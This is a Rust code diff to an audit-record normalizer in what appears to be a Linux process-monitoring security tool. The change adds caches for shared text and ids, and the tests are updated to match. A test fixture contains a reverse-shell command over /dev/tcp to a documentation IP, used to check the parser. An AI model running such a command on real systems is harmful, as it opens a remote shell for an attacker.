@@ -13,10 +13,11 @@ use std::sync::Arc;
 use execsentry_linux::{arch, ExecRecord};
 
 use crate::entity::EntityIds;
-use crate::event::{basename, Action, HostInfo, Ids, ProcessEvent, ProcessInfo, SourceFacts};
+use crate::event::{basename, Action, HostInfo, ProcessEvent, ProcessInfo, SourceFacts};
 use crate::process_table::{Limits, ProcessTable, TableStats};
 use crate::procfs;
-use crate::users::NameCache;
+use crate::text_cache::{Recent, RecentId, TextCache};
+use crate::users::{IdsCache, NameCache};
 
 /// Audit's "unset" id (auid, ses).
 const UNSET: u32 = u32::MAX;
@@ -25,10 +26,24 @@ const UNSET: u32 = u32::MAX;
 /// jiffy-coarse and `/proc` start times tick-coarse.
 const START_SLACK_NS: i64 = 1_000_000_000;
 
+/// The last value of the fields that repeat back to back most (see [`Recent`]).
+#[derive(Debug, Default)]
+struct RecentFields {
+    session: RecentId,
+    audit_user_id: RecentId,
+    key: Recent,
+    cwd: Recent,
+    tty: Recent,
+}
+
 /// Turns assembled exec records into events, keeping the process table current.
 pub struct AuditNormalizer {
     table: ProcessTable,
     names: NameCache,
+    ids: IdsCache,
+    /// Shared text for values that repeat across events (ids, paths, terminal, key).
+    texts: TextCache,
+    recent: RecentFields,
     host: Arc<HostInfo>,
     /// Entity ids for this host and boot.
     entity_ids: EntityIds,
@@ -55,6 +70,9 @@ impl AuditNormalizer {
         AuditNormalizer {
             table,
             names: NameCache::new(),
+            ids: IdsCache::new(),
+            texts: TextCache::new(),
+            recent: RecentFields::default(),
             entity_ids: EntityIds::new(host.id.as_deref().unwrap_or_default(), ""),
             host,
             proc_root: None,
@@ -105,7 +123,7 @@ impl AuditNormalizer {
         let failed = rec.failed();
         let parent = self.parent(sc.ppid.unwrap_or(0), timestamp_ns);
         // Fill a spare image (one that left the table) in place: its strings keep their
-        // allocations, which is most of the cost of an event otherwise.
+        // allocations (the shared texts are swapped, not copied).
         let mut process = self.table.take_spare().unwrap_or_default();
         match Arc::get_mut(&mut process) {
             Some(info) => self.fill(info, rec, timestamp_ns),
@@ -127,6 +145,7 @@ impl AuditNormalizer {
             }
             _ => "execve",
         };
+        let (texts, recent) = (&mut self.texts, &mut self.recent);
         ProcessEvent {
             timestamp_ns,
             sequence: u64::from(rec.serial),
@@ -135,9 +154,16 @@ impl AuditNormalizer {
             parent,
             host: Arc::clone(&self.host),
             source: SourceFacts::Audit {
-                session: sc.ses.filter(|&s| s != UNSET).map(decimal),
-                audit_user_id: sc.auid.filter(|&a| a != UNSET).map(decimal),
-                key: first_key(rec),
+                session: sc
+                    .ses
+                    .filter(|&s| s != UNSET)
+                    .map(|v| recent.session.decimal(texts, v)),
+                audit_user_id: sc
+                    .auid
+                    .filter(|&a| a != UNSET)
+                    .map(|v| recent.audit_user_id.decimal(texts, v)),
+                // Several keys are joined by 0x01 by the kernel; the first is ours.
+                key: sc.keys().next().map(|k| recent.key.lossy(texts, k)),
                 syscall,
                 failed,
             },
@@ -164,25 +190,28 @@ impl AuditNormalizer {
             exit_code,
         } = info;
         let sc = &rec.syscall;
+        let (texts, recent) = (&mut self.texts, &mut self.recent);
         *pid = sc.pid.unwrap_or(0);
         *ppid = sc.ppid.unwrap_or(0);
         self.entity_ids
             .write(*pid, u64::from(rec.serial), entity_id);
-        set_lossy(working_directory, rec.cwd.as_deref());
-        executable.clear();
-        match (&sc.exe, rec.failed()) {
+        *working_directory = rec.cwd.as_deref().map(|c| recent.cwd.lossy(texts, c));
+        *executable = match (&sc.exe, rec.failed()) {
             // A failed exec leaves the old image: the attempt is the PATH name.
-            (_, true) | (None, false) => executable
-                .push_str(&attempted_path(rec, working_directory.as_deref()).unwrap_or_default()),
-            (Some(exe), false) => push_lossy(executable, exe),
-        }
-        name.clear();
-        name.push_str(basename(executable));
+            (_, true) | (None, false) => {
+                let attempt = attempted_path(rec, working_directory.as_deref());
+                texts.text(attempt.as_deref().unwrap_or_default())
+            }
+            (Some(exe), false) => texts.lossy(exe),
+        };
+        *name = texts.text(basename(executable));
         // One UTF-8 check for all arguments; an argument is then a slice of it, unless it ends
         // inside a character (then it is not valid alone, and goes the lossy way).
         let all = std::str::from_utf8(rec.argv.as_bytes()).ok();
         let mut start = 0;
         args.truncate(rec.argv.len());
+        command_line.clear();
+        command_line.reserve(rec.argv.as_bytes().len() + rec.argv.len());
         for (i, arg) in rec.argv.iter().enumerate() {
             let end = start + arg.len();
             let text = all.and_then(|all| all.get(start..end));
@@ -196,37 +225,20 @@ impl AuditNormalizer {
                     Some(text) => a.push_str(text),
                     None => push_lossy(a, arg),
                 }
+                if i > 0 {
+                    command_line.push(' ');
+                }
+                command_line.push_str(a);
             }
         }
-        command_line.clear();
-        for (i, arg) in args.iter().enumerate() {
-            if i > 0 {
-                command_line.push(' ');
-            }
-            command_line.push_str(arg);
-        }
-        let Ids {
-            user_id,
-            user_name,
-            real_user_id,
-            real_user_name,
-            group_id,
-            group_name,
-            real_group_id,
-            real_group_name,
-        } = ids;
-        set_decimal(user_id, sc.euid);
-        set_str(user_name, sc.euid.and_then(|v| self.names.user_name(v)));
-        set_decimal(real_user_id, sc.uid);
-        set_str(real_user_name, sc.uid.and_then(|v| self.names.user_name(v)));
-        set_decimal(group_id, sc.egid);
-        set_str(group_name, sc.egid.and_then(|v| self.names.group_name(v)));
-        set_decimal(real_group_id, sc.gid);
-        set_str(
-            real_group_name,
-            sc.gid.and_then(|v| self.names.group_name(v)),
-        );
-        set_lossy(tty, sc.tty.as_deref().filter(|t| !t.is_empty()));
+        *ids = self
+            .ids
+            .get([sc.euid, sc.uid, sc.egid, sc.gid], &mut self.names);
+        *tty = sc
+            .tty
+            .as_deref()
+            .filter(|t| !t.is_empty())
+            .map(|t| recent.tty.lossy(texts, t));
         *interactive = tty.is_some();
         *code_signature = None;
         *start_ns = Some(timestamp_ns);
@@ -273,62 +285,6 @@ fn push_lossy(out: &mut String, bytes: &[u8]) {
     }
 }
 
-/// `*slot = bytes.map(lossy)`, reusing the string already there.
-fn set_lossy(slot: &mut Option<String>, bytes: Option<&[u8]>) {
-    match (slot.as_mut(), bytes) {
-        (Some(s), Some(b)) => {
-            s.clear();
-            push_lossy(s, b);
-        }
-        (None, Some(b)) => *slot = Some(lossy(b)),
-        (_, None) => *slot = None,
-    }
-}
-
-/// `*slot = value.map(str::to_owned)`, reusing the string already there.
-fn set_str(slot: &mut Option<String>, value: Option<&str>) {
-    match (slot.as_mut(), value) {
-        (Some(s), Some(v)) => {
-            s.clear();
-            s.push_str(v);
-        }
-        (None, Some(v)) => *slot = Some(v.to_owned()),
-        (_, None) => *slot = None,
-    }
-}
-
-/// `*out` = the id in decimal, or empty when absent (ids stay strings, design.md §3).
-fn set_decimal(out: &mut String, id: Option<u32>) {
-    out.clear();
-    if let Some(v) = id {
-        push_decimal(out, v);
-    }
-}
-
-fn decimal(v: u32) -> String {
-    let mut s = String::with_capacity(10);
-    push_decimal(&mut s, v);
-    s
-}
-
-/// `v.to_string()` without the formatting machinery.
-fn push_decimal(out: &mut String, mut v: u32) {
-    let mut digits = [0u8; 10];
-    let mut i = digits.len();
-    loop {
-        i -= 1;
-        digits[i] = b'0' + (v % 10) as u8;
-        v /= 10;
-        if v == 0 {
-            break;
-        }
-    }
-    // A few ASCII pushes beat validating and copying a slice this short.
-    for &d in &digits[i..] {
-        out.push(char::from(d));
-    }
-}
-
 /// The file an exec named (PATH item 0), resolved against the working directory.
 fn attempted_path(rec: &ExecRecord, cwd: Option<&str>) -> Option<String> {
     let name = lossy(rec.paths.first()?.name.as_deref()?);
@@ -343,11 +299,6 @@ fn attempted_path(rec: &ExecRecord, cwd: Option<&str>) -> Option<String> {
         ),
         None => name,
     })
-}
-
-/// The audit rule key (several keys are joined by 0x01 by the kernel; the first is ours).
-fn first_key(rec: &ExecRecord) -> Option<String> {
-    rec.syscall.keys().next().map(lossy)
 }
 
 #[cfg(test)]
@@ -405,14 +356,14 @@ type=PROCTITLE msg=audit(1795848213.300:502): proctitle="sh"
         assert_eq!(recs.len(), 3);
         let mut n = AuditNormalizer::replay(host(), Limits::default());
         let bash = n.exec(&recs[0]);
-        assert_eq!(bash.process.name, "bash");
+        assert_eq!(&*bash.process.name, "bash");
         assert!(bash.parent.is_none(), "pid 1 was never seen in a replay");
 
         let sh = n.exec(&recs[1]);
         let p = &sh.process;
         assert_eq!((p.pid, p.ppid), (101, 100));
-        assert_eq!(p.executable, "/usr/bin/dash");
-        assert_eq!(p.name, "dash", "basename of exe, not argv[0]");
+        assert_eq!(&*p.executable, "/usr/bin/dash");
+        assert_eq!(&*p.name, "dash", "basename of exe, not argv[0]");
         assert_eq!(
             p.args,
             ["sh", "-c", "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"]
@@ -422,17 +373,14 @@ type=PROCTITLE msg=audit(1795848213.300:502): proctitle="sh"
             "sh -c sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"
         );
         assert_eq!(p.working_directory.as_deref(), Some("/home/u"));
-        assert_eq!(
-            (p.ids.user_id.as_str(), p.ids.group_id.as_str()),
-            ("1000", "1000")
-        );
+        assert_eq!((&*p.ids.user_id, &*p.ids.group_id), ("1000", "1000"));
         assert!(p.interactive);
         assert_eq!(p.tty.as_deref(), Some("pts0"));
         assert_eq!(sh.timestamp_ns, 1_795_848_213_200_000_000);
         assert_eq!(sh.sequence, 501);
         let parent = sh.parent.as_ref().expect("parent from the table");
         assert_eq!(
-            (parent.name.as_str(), parent.command_line.as_str()),
+            (&*parent.name, parent.command_line.as_str()),
             ("bash", "bash")
         );
         assert_eq!(parent.entity_id, bash.process.entity_id);
@@ -454,13 +402,10 @@ type=PROCTITLE msg=audit(1795848213.300:502): proctitle="sh"
             ["info"],
             "a failed exec is not a process start"
         );
-        assert_eq!(failed.process.executable, "/tmp/nope");
+        assert_eq!(&*failed.process.executable, "/tmp/nope");
         assert!(failed.process.args.is_empty());
         assert!(!failed.process.interactive);
-        assert_eq!(
-            failed.parent.as_ref().map(|p| p.name.as_str()),
-            Some("dash")
-        );
+        assert_eq!(failed.parent.as_ref().map(|p| &*p.name), Some("dash"));
         assert!(matches!(
             failed.source,
             SourceFacts::Audit {
@@ -514,7 +459,7 @@ type=PROCTITLE msg=audit(1795848213.300:602): proctitle="x"
         assert_eq!(p.args, ["x"]);
         assert_eq!(p.working_directory.as_deref(), Some("/\u{fffd}"));
         assert_eq!((p.tty.as_deref(), p.interactive), (None, false));
-        assert_eq!(p.ids.user_id, "3999999999");
+        assert_eq!(&*p.ids.user_id, "3999999999");
         assert_eq!(p.ids.user_name, None);
     }
 
@@ -532,13 +477,6 @@ type=PROCTITLE msg=audit(1795848213.100:700): proctitle="x"
         let e = n.exec(&recs[0]);
         assert_eq!(e.process.args, ["x", "\u{fffd}", "\u{fffd}", "é"]);
         assert_eq!(e.process.command_line, "x \u{fffd} \u{fffd} é");
-    }
-
-    #[test]
-    fn decimal_ids_match_to_string() {
-        for v in [0, 7, 10, 999, 1000, 65534, 4_294_967_295] {
-            assert_eq!(decimal(v), v.to_string());
-        }
     }
 
     #[test]
